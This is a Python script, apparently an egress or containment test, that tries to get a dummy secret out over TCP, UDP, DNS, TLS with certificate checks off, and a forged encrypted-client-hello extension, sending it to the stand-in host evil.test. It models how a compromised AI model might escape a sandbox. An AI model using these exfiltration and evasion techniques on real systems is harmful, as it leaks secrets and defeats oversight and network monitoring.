"""Tries to get a secret out, by every road named on the command line: what a captured inference might do.

Each argument is KIND,TARGET,PORT,WHAT. KIND is tcp, udp, dns (a question to a resolver of our choice), name
(a question to the one we were given), or TLS that asks the target for evil.test (tls), for no name (anon), or
for a hidden one (ech). One line per road: how it ended and after how many milliseconds.
Exit status: how many roads led out.
"""

import socket
import ssl
import struct
import sys
import time

MARKER = "sk-secret-4711"
REQUEST = f"GET /?{MARKER} HTTP/1.0\r\n\r\n".encode()
CAPTURED = "evil.test"  # what it would like to reach
ECH = 0xFE0D  # encrypted_client_hello (RFC 9849)
BEFORE_EXTENSIONS = 9 + 2 + 32  # of a ClientHello: two headers, version, random (RFC 8446 section 4.1.2)


def tcp(target: str, port: int) -> str:
    with socket.create_connection((target, port), timeout=3) as sock:
        sock.sendall(REQUEST)
        return repr(sock.recv(64))


def careless() -> ssl.SSLContext:
    """Whoever wants out does not mind who answers."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


def tls(target: str, port: int, asked: str | None = CAPTURED) -> str:
    with (
        socket.create_connection((target, port), timeout=3) as plain,
        careless().wrap_socket(plain, server_hostname=asked) as sock,
    ):
        sock.sendall(REQUEST)
        return repr(sock.recv(64))


def anon(target: str, port: int) -> str:
    return tls(target, port, asked=None)


def ech(target: str, port: int) -> str:
    """An ordinary hello for the target, with an encrypted one beside it."""
    out = ssl.MemoryBIO()
    try:
        careless().wrap_bio(ssl.MemoryBIO(), out, server_hostname=target).do_handshake()
    except ssl.SSLWantReadError:
        hello = out.read()
    with socket.create_connection((target, port), timeout=3) as sock:
        sock.sendall(extended(hello, struct.pack("!HH", ECH, len(REQUEST)) + REQUEST))
        return repr(sock.recv(64))


def extended(record: bytes, extension: bytes) -> bytes:
    """The ClientHello with one extension more, and every length around it right."""
    at = BEFORE_EXTENSIONS
    for size in (1, 2, 1):  # session id, cipher suites, compression methods
        at += size + int.from_bytes(record[at : at + size], "big")
    body = (
        record[9:at] + struct.pack("!H", len(record) - at - 2 + len(extension)) + record[at + 2 :] + extension
    )
    message = record[5:6] + len(body).to_bytes(3, "big") + body
    return record[:3] + struct.pack("!H", len(message)) + message


def udp(target: str, port: int, data: bytes = MARKER.encode()) -> str:
    family = socket.AF_INET6 if ":" in target else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(3)
        sock.connect((target, port))
        sock.send(data)
        return repr(sock.recv(512)[:32])


def dns(target: str, port: int) -> str:
    """A hand-made question for MARKER.evil.test (RFC 1035 section 4)."""
    name = b"".join(bytes([len(label)]) + label.encode() for label in (MARKER, "evil", "test", ""))
    return udp(target, port, struct.pack("!6H", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1))


def name(target: str, port: int) -> str:
    return str(socket.getaddrinfo(target, port)[0][4][0])


KINDS = {"tcp": tcp, "udp": udp, "dns": dns, "name": name, "tls": tls, "anon": anon, "ech": ech}


def main() -> int:
    out = 0
    for road in sys.argv[1:]:
        kind, target, port, what = road.split(",", 3)
        began = time.perf_counter()
        try:
            found = KINDS[kind](target, int(port))
            out += 1
            ended = f"OUT: {found}"
        except OSError as error:
            ended = str(error.strerror or error)
        spent = (time.perf_counter() - began) * 1000
        place = target if kind == "name" else f"[{target}]:{port}" if ":" in target else f"{target}:{port}"
        print(f"{what:30}{kind:5}{place:25}{spent:5.1f} ms  {ended}", flush=True)
    return out


if __name__ == "__main__":
    sys.exit(main())
